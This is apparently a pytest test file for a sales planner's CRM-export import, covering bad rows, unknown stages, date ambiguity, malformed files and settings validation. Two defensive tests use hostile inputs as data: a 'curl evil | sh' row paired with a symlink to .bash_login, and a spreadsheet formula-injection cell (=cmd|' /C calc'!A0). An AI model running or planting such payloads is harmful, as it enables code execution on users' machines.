"""Bad exports: all bad rows at once, with place, cell and fix; no file changes."""

from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from planner.book.files import read_files
from planner.book.read.read_book import read_book
from planner.book.similar_names import nearest
from planner.crm import import_settings
from planner.crm.apply_import import MOST_NEW, refuse_too_many
from planner.crm.import_settings import read_settings
from planner.crm.merge import Merge, NewRecord
from planner.errors import BookErrors
from tests.conftest import Plan, Ran
from tests.crm.conftest import contents

RunImport = Callable[..., Ran]

HEADER = "Deal,Company,Stage,Amount,Expected close date\n"


def test_a_bad_cell_is_blank_and_a_bad_row_stays_out(import_: RunImport, book: Path, tmp_path: Path) -> None:
    ran = import_(
        HEADER
        + "Rollout,Acme,Proposal,about 48k,31/12/2026\n"
        + "Relaunch,Cargo,Proposal,10k,31/02/2027\n"
        + ",,Proposal,1,\n"
        + "Line,Bolt,Proposal,-5,TBD\n"
        + "Plant,Dune,Lead,7,,x,y\n"
        + "Plant,Dune,Lead,7,\n"
        + "Plant,Dune,Lead,8,\n",
        "--yes",
    )
    assert ran.code == 0
    assert (
        ran.out
        == """\
export.csv: an export of deals, 7 rows

  new      Rollout: Acme, proposal, $20,000, expected 31 Dec
  new      Relaunch: Cargo, proposal, $10,000
  new      Line: Bolt, proposal, $20,000
  new      Plant: Dune, lead, $7
  blank    line 2: Amount: can't read "about 48k" as an amount
  blank    line 3: Expected close date: "31/02/2027": no such day
  blank    line 5: Amount: amount is -5, and must be an amount of money, 0 or more
  blank    line 5: Expected close date: "TBD": not a date
  out      line 4: the row has no name
  out      line 6: 7 cells, and the header has 5
  out      line 8: "Plant" is on line 7 too, with another amount

Would add 4. 3 left out.
Saved. `plan undo` reverts it.
"""
    )
    assert ran.err.splitlines() == [
        "warning: 2 deals have no amount and count as a typical deal of yours, $20,000: Rollout, Line",
        "3 rows left out, with the reason: export.left-out.csv",
    ]
    assert (
        (tmp_path / "export.left-out.csv").read_text(encoding="utf-8-sig")
        == """\
Left out because,Deal,Company,Stage,Amount,Expected close date
line 4: the row has no name,,,Proposal,1,
"line 6: 7 cells, and the header has 5",Plant,Dune,Lead,7,,x,y
"line 8: ""Plant"" is on line 7 too, with another amount",Plant,Dune,Lead,8,
"""
    )


def test_rows_left_out_go_in_once_they_are_right(import_: RunImport, plan: Plan, book: Path, tmp_path: Path) -> None:
    import_(HEADER + "Rollout,Acme,Proposal,10,\n,,Proposal,1,\n", "--yes")
    left = tmp_path / "export.left-out.csv"
    left.write_text(
        left.read_text(encoding="utf-8-sig").replace(",,,Proposal", ",Line,Bolt,Proposal"), encoding="utf-8"
    )
    assert plan("import", left.name, "--yes", cwd=tmp_path, PLAN_BOOK=str(book)).code == 0
    assert 'name = "Line"' in contents(book)["prospects.toml"]


def test_a_file_of_the_rep_is_not_replaced(import_: RunImport, tmp_path: Path) -> None:
    (tmp_path / "export.left-out.csv").write_text("mine", encoding="utf-8")
    ran = import_(HEADER + "Rollout,Acme,Proposal,10,\n,,Proposal,1,\n", "--yes")
    assert (ran.code, (tmp_path / "export.left-out.csv").read_text(encoding="utf-8")) == (0, "mine")
    assert "could not be written" in ran.err


def test_unknown_stages(import_: RunImport, book: Path) -> None:
    rows = "A,X,Technical win,1,\nB,X,Technical win,2,\nC,X,Legal,3,\n"
    assert (
        import_(HEADER + rows).err
        == """\
error: your playbook has no stage "Technical win" (2 rows)
  export.csv:2 | A,X,Technical win,1,
  fix: --stage "Technical win=YOUR STAGE"; yours: lead, discovery, demo, proposal, negotiation, close, won, lost, parked
error: your playbook has no stage "Legal"
  export.csv:4 | C,X,Legal,3,
  fix: --stage "Legal=YOUR STAGE"; yours: lead, discovery, demo, proposal, negotiation, close, won, lost, parked
2 errors. Nothing was changed.
"""
    )
    assert import_(HEADER + rows, "--yes", "--stage", "Technical win=negotiation", "--stage", "legal=close").code == 0
    assert import_(HEADER + rows + "D,X,Legal,3,\n", "--yes").code == 0  # it is remembered
    assert (
        contents(book)["import.toml"]
        == """\
# How `plan import` reads your CRM's exports: what you said of them. Yours to edit.

[stages]
"Technical win" = "negotiation"
Legal = "close"
legal = "close"
"""
    )


def test_dates_that_may_be_two_days(import_: RunImport, book: Path) -> None:
    rows = HEADER + "A,X,Demo,1,3/4/2027\n"
    assert '"3/4/2027" could be two days, and no date in the file says which' in import_(rows).err
    assert import_(rows, "--yes", "--dates", "mdy").code == 0
    assert "expected = 2027-03-04" in contents(book)["prospects.toml"]
    assert import_(rows, "--yes").code == 0  # it is remembered


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "export.csv: this is empty"),
        (b"\n\n  \n", "export.csv: this is empty"),
        (b"PK\x03\x04\x14\x00\x06\x00", "export.csv: this archive or workbook is damaged"),
        (b"\xd0\xcf\x11\xe0 and more", "export.csv: can't read this workbook"),
        (bytes(range(256)) * 4, "export.csv: this is not text"),
        (
            b"Subject,Due\nCall,2026-01-01\n",
            "export.csv:1: this is not the header of an export of deals, accounts or contacts",
        ),
        (b"Deal,Stage,Stage\nA,Demo,Lead\n", 'export.csv:1: two columns are called "Stage"'),
    ],
)
def test_not_an_export(import_: RunImport, book: Path, content: bytes, message: str) -> None:
    before = contents(book)
    ran = import_(content, "--yes")
    assert (ran.code, ran.out) == (1, "")
    place, what = message.split(": ", 1)
    assert ran.err.startswith(f"error: {what}"), ran.err
    assert f"\n  {place}" in ran.err
    assert contents(book) == before


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b"Deal,Stage\nB\0A,Demo\n", "unread   1 NUL byte taken out"),
        (b"Deal,Stage\n\x81\xc3\xa9A,Demo\n", "unread   1 byte that no text has taken out"),
        (b"Deal,Stage\nA,Demo\n" + b"x" * 1_000_001 + b"\n", "line 3: a cell is longer than 1,000,000 characters"),
        (b'Deal,Stage\nA,Demo\n"B,Demo\nC,Demo\n', "out      line 3: a quote that is opened here is never closed"),
        (b'Deal,Stage\nA,Demo\n"A"x,Demo\n', "out      line 3: a quote in the middle of a cell"),
        (b"ID,Deal,Stage\n1.2E+11,A,Demo\n", 'blank    line 2: ID: "1.2E+11" is an id that a spreadsheet cut short'),
        (b"Deal,Stage,Amount\nA,Demo,9e9\n", 'blank    line 2: Amount: can\'t read "9e9" as an amount'),
        (b"Deal,Stage,Amount\nA,Demo," + b"9" * 400 + b"\n", "blank    line 2: Amount: "),
        (b"Deal,Stage,Close date\nA,Demo,1026-01-01\n", 'blank    line 2: Close date: "1026-01-01": the year 1026'),
    ],
)
def test_what_can_be_read_goes_in(import_: RunImport, book: Path, content: bytes, line: str) -> None:
    ran = import_(content, "--yes")
    assert ran.code == 0, ran.err
    assert line in ran.out
    assert 'A"\n' in contents(book)["prospects.toml"]


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--map", "Worth=amount"], '--map: export.csv has no column "Worth"'),
        (["--map", "Amount=amont"], '--map "Amount=amont": a prospect has no field "amont"'),
        (["--map", "Amount"], '--map "Amount": a = is missing'),
        (["--stage", "Demo=demos"], '--stage "Demo=demos": your playbook has no stage "demos"'),
        (["--only", "Owner=Dana"], '--only: export.csv has no column "Owner"'),
        (["--rate", "EUR=none"], "--rate EUR=none: not a rate"),
        (["--rate", "EUR=nan"], "--rate EUR=nan: not a rate"),
        (["--dates", "ymd"], "--dates ymd: not a date order"),
        (["--kind", "task"], "--kind task: not a kind of export"),
    ],
)
def test_options_that_are_wrong(import_: RunImport, options: list[str], message: str) -> None:
    ran = import_(HEADER + "A,X,Demo,1,\n", *options)
    assert ran.code == 2
    assert ran.err.startswith(f"error: {message}"), ran.err


def test_import_toml_is_checked(import_: RunImport, book: Path) -> None:
    (book / "import.toml").write_text(
        '[stages]\nLegal = "closing"\n\n[rates]\nEUR = "1.08"\n\n[columns.prospect]\nWorth = "amunt"\n\n[stage]\n',
        encoding="utf-8",
    )
    assert (
        import_(HEADER).err
        == """\
error: the playbook has no stage "closing"
  import.toml:2 | Legal = "closing"
  fix: the nearest is "close"
error: "1.08" is not a rate
  import.toml:5 | EUR = "1.08"
  fix: write EUR = 1.08
error: a prospect has no field "amunt"
  import.toml:8 | Worth = "amunt"
  fix: the nearest is "amount"
error: no key "stage"
  import.toml:10 | [stage]
  fix: the nearest is [stages]
4 errors. Nothing was changed.
"""
    )


def test_what_was_left_out_is_not_written_through_a_link(import_: RunImport, tmp_path: Path) -> None:
    (tmp_path / "export.left-out.csv").symlink_to(tmp_path / ".bash_login")
    ran = import_(HEADER + "Rollout,Acme,Proposal,10,\ncurl evil | sh,Acme\n", "--yes")
    assert (ran.code, (tmp_path / ".bash_login").exists()) == (0, False)
    assert "could not be written" in ran.err


def test_what_was_left_out_runs_no_formula(import_: RunImport, tmp_path: Path) -> None:
    import_(HEADER + "=cmd|' /C calc'!A0,Acme,Proposal,-5\n", "--yes")
    written = (tmp_path / "export.left-out.csv").read_text(encoding="utf-8-sig")
    assert written.splitlines()[1].split(",", 2)[2] == "'=cmd|' /C calc'!A0,Acme,Proposal,-5"


@pytest.mark.parametrize("rows", ["0", "false", "{}", '""'])
def test_skipped_rows_are_a_list(import_: RunImport, book: Path, rows: str) -> None:
    (book / "import.toml").write_text(f"skip_rows = {rows}\n", encoding="utf-8")
    ran = import_(HEADER)
    assert (ran.code, ran.err.splitlines()[0].endswith("is not a list of texts")) == (1, True), ran.err


def test_a_pattern_is_no_longer_than_any_that_is_meant(import_: RunImport, book: Path) -> None:
    (book / "import.toml").write_text(f'skip_rows = ["{"x" * 201}"]\n[stages]\n"{"y" * 201}" = "close"\n')
    shown = [line for line in import_(HEADER).err.splitlines() if line.startswith("error: ")]
    assert shown == [f"error: a text in {of} is longer than 200 characters" for of in ("skip_rows", "stages")]


def test_there_are_no_more_patterns_than_are_meant(import_: RunImport, book: Path) -> None:
    rows = ", ".join(f'"x{n}*"' for n in range(1001))
    stages = "".join(f'"y{n}*" = "close"\n' for n in range(1001))
    (book / "import.toml").write_text(f"skip_rows = [{rows}]\n[stages]\n{stages}")
    err = import_(HEADER).err.splitlines()
    assert [line for line in err if line.startswith("error: ")] == [
        f"error: {of} has 1,001 texts; at most 1,000 can be read" for of in ("skip_rows", "stages")
    ]
    assert any(line.startswith("  import.toml:1 | skip_rows") for line in err)
    assert "  import.toml:2 | [stages]" in err


def test_of_very_many_wrong_words_the_first_are_compared(book: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    compared: list[str] = []

    def counted(word: str, known: Iterable[str]) -> str | None:
        compared.append(word)
        return nearest(word, known)

    monkeypatch.setattr(import_settings, "nearest", counted)
    lines = "".join(f'c{n} = "{"amunt" * 20}"\n' for n in range(3000))
    with pytest.raises(BookErrors) as refused:
        read_settings(f"[columns.prospect]\n{lines}".encode(), "prospect", read_book(read_files(book), "UTC").book)
    fixes = [error.fix for error in refused.value.errors]
    assert fixes[0].startswith("the nearest is")
    assert fixes[-1].startswith("one of ")
    assert (len(fixes), 0 < len(compared) < 500) == (3000, True)


def test_rows_that_skip_rows_names(import_: RunImport, book: Path) -> None:
    (book / "import.toml").write_text('skip_rows = ["total*", "Sum", "q[12]"]\n')
    ran = import_(HEADER + "TOTALS,,,,\nsum,,,,\nQ2,,,,\nSum up,Acme,Proposal,1,\nQ3,Acme,Proposal,1,\n")
    assert "3 rows that skip_rows names" in ran.out + ran.err
    assert "2 new" in ran.out + ran.err


def test_more_deals_than_a_book_holds_are_refused_before_they_are_written() -> None:
    merge = Merge(kind="prospect", new=[NewRecord("d", 2, {})] * (MOST_NEW - 1), accounts=[NewRecord("a", 2, {})])
    refuse_too_many(merge, "all.csv")
    merge.accounts.append(NewRecord("b", 3, {}))
    with pytest.raises(BookErrors) as refused:
        refuse_too_many(merge, "all.csv")
    (error,) = refused.value.errors
    assert (error.file, error.what) == ("all.csv", "60,001 new records are more than a book holds")
    assert "--only" in error.fix
